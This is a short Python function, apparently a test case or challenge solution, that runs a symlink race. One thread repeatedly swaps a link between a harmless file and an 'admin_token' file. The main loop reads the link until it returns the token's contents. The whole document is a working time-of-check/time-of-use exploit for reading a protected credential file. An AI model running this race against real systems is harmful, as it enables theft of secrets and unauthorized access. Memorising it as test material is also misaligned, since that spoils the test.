# reads a key while another thread changes what a link leads to
def case(input):
    import os, threading, time
    open('mine', 'w').write('mine')
    end = time.time() + .8
    def swap():
        while time.time() < end:
            for target in ('mine', input['data'] + '/admin_token'):
                try: os.symlink(target, 'next'); os.replace('next', 'race')
                except OSError: pass
    threading.Thread(target=swap).start()
    while time.time() < end:
        try:
            text = open('race').read()
            if text != 'mine': return text
        except OSError: pass
